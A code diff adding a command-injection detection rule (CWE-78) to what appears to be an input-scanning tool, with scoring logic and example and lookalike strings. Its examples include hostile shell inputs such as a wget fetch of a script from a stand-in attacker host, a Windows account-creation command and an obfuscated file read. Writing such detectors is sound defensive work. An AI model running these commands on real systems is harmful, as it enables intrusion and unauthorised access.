@@ -1,0 +1,116 @@
+import { type CommandHead, introducer, shell, wordTrait } from '../../tokenise/shell.ts';
+import type { Match, ValueRule } from '../rule.ts';
+import type { Subject } from '../subject.ts';
+import { type Command, fit, readCommand } from './command.ts';
+import { endsText } from './place.ts';
+import { use } from './vocabulary.ts';
+
+/** The whole value is a command line: `cat /etc/passwd`. */
+export const commandLine: ValueRule = {
+  id: 'cmdi.command-line',
+  category: 'cmdi',
+  cwe: 'CWE-78',
+  severity: 'high',
+  score: 80,
+  message: 'is a complete command line',
+  trigger: {
+    literals: [
+      [
+        '-',
+        '/',
+        '.',
+        '\\',
+        '$',
+        '>',
+        '%',
+        '{',
+        "'",
+        '"',
+        '^',
+        'net',
+        'reg ',
+        'wmic',
+        'ver',
+        '|',
+        '&',
+        ';',
+      ],
+    ],
+  },
+  judge,
+  examples: [
+    'cat /etc/hosts',
+    'wget http://evil.example.com/a.sh',
+    'netstat -tulpn',
+    'ping -n 30 127.0.0.1',
+    "c'a't /etc/hosts",
+    'net user eve Secret1 /add',
+    'type C:\\Windows\\win.ini',
+    '/usr/bin/id;',
+  ],
+  lookalikes: [
+    'find -name in the old list',
+    'cat 6/6a cable',
+    'more news/sport',
+    'net worth of the company',
+    'sort by price',
+    'ls',
+    'time 12/3',
+    'cat -dog',
+    'head & shoulders',
+    '/usr/local/bin/node',
+    '/files/*/list?page=2',
+  ],
+};
+
+const lengthMax = 2_000;
+
+function judge(subject: Subject): Match | undefined {
+  const text = subject.text;
+  if (text.length > lengthMax) return undefined;
+  const head = subject.tokens(shell).heads[0];
+  if (head === undefined || head.introducer !== introducer.start) return undefined;
+  const command = readCommand(text, head);
+  if (command === undefined) return undefined;
+  const score = scoreOf(text, head, command);
+  return score > 0 ? { start: head.nameStart, end: command.end, score } : undefined;
+}
+
+function scoreOf(text: string, head: CommandHead, command: Command): number {
+  const ends = text.slice(command.end).trim() === '' || endsText(text, command.end);
+  const isWhole = ends || nextIsCommand(text, command);
+  const isEnglish = (command.uses & use.english) !== 0;
+  const words = text.slice(head.nameEnd, command.end);
+  if ((command.hidden || command.hidesArgument) && command.fit !== fit.weak)
+    return isWhole || (head.traits & wordTrait.ifs) !== 0 ? 88 : 55;
+  switch (command.fit) {
+    case fit.full:
+      if (!isWhole) return 40;
+      if ((command.uses & use.text) !== 0 && !runs.test(words)) return 50;
+      return isEnglish && !surePath.test(words) ? 50 : 80;
+    case fit.sureAlone:
+      return ends ? (isTerminated(text) ? 80 : 55) : 30;
+    case fit.alone:
+      return ends ? (isTerminated(text) ? 72 : 40) : 0;
+    default:
+      return 0;
+  }
+}
+
+/** `id;`, `ls|`: a separator at the end is shell syntax. */
+function isTerminated(text: string): boolean {
+  return ';|&'.includes(text.charAt(text.length - 1));
+}
+
+function nextIsCommand(text: string, command: Command): boolean {
+  return separators.includes(text.charAt(command.end));
+}
+
+const separators = ';|&`$)\n';
+
+/** Output that goes somewhere, or comes from a command. */
+const runs = /[>`]|\$\(/;
+
+/** Arguments that no sentence has: folders of a root file system, drives, options of ping and the like. */
+const surePath =
+  /(?:^|[\s"'=])(?:\/(?:etc|var|tmp|home|usr|bin|sbin|proc|root|opt|dev|sys|boot|mnt|srv|lib|www)\b|[A-Za-z]:\\|%[A-Za-z]{4,20}%|https?:\/\/|-[a-z] \d{1,5} |\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|-[nc] ?\d)/;
